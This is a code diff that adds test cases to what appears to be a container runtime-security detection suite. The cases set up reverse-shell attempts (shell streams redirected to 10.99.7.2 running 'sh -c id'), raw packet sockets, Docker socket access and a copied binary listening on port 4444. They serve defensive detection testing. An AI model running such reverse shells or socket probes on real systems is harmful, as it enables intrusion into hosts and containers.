@@ -45,4 +45,53 @@ const scanners = [
   ),
 ];
 
-export const onTheNetwork: Attack[] = [...metadataService, ...scanners];
+const stream = (program: string, streams: string, ...argv: string[]) => ({
+  exec: [program, "/opt/stream.pl", "10.99.7.2", "80", streams, ...argv],
+});
+
+const reverseShells = [
+  ...pair(
+    "Reverse Shell",
+    "shell",
+    stream("/opt/probe", "0,1,2", "sh", "-c", "id"),
+    stream("/opt/probe", "1", "sh", "-c", "id"),
+  ),
+  ...pair(
+    "Reverse Shell",
+    "renamed-shell",
+    stream("/opt/probe", "0,1,2", "/opt/report", "-c", "id"),
+    stream("/opt/probe", "1,2", "/opt/report", "-c", "id"),
+  ),
+  // The shell may be given a terminal of its own afterwards: what counts is done before.
+  ...pair("Reverse Shell", "interpreter", stream("perl", "0", "/opt/work"), stream("perl", "1", "/opt/work")),
+];
+
+const sockets = [
+  ...pair(
+    "Packet Socket in a Container",
+    "packet",
+    { exec: ["/opt/probe", "/opt/socket.pl", "17", "3", "768"] },
+    { exec: ["/opt/probe", "/opt/socket.pl", "16", "3", "0"] },
+  ),
+  ...pair(
+    "Packet Socket in a Container",
+    "own-headers",
+    { exec: ["/opt/probe", "/opt/socket.pl", "2", "3", "255"] },
+    { exec: ["/opt/probe", "/opt/socket.pl", "2", "3", "1"] },
+  ),
+  ...pair(
+    "Container Runtime Socket Access",
+    "docker",
+    { exec: ["/opt/probe", "/opt/unix.pl", "/tmp/docker.sock"] },
+    { exec: ["/opt/probe", "/opt/unix.pl", "/tmp/doctor.sock"] },
+  ),
+  ...pair(
+    "Drift Binary Listening",
+    "copied-program",
+    { exec: ["/tmp/probe", "/opt/listen.pl", "4444"], also: ["Drift Binary Executed"] },
+    { exec: ["/opt/probe", "/opt/listen.pl", "4444"] },
+    { prepare: [["cp", "/opt/probe", "/tmp/probe"]], tidy: [["rm", "/tmp/probe"]] },
+  ),
+];
+
+export const onTheNetwork: Attack[] = [...metadataService, ...scanners, ...reverseShells, ...sockets];
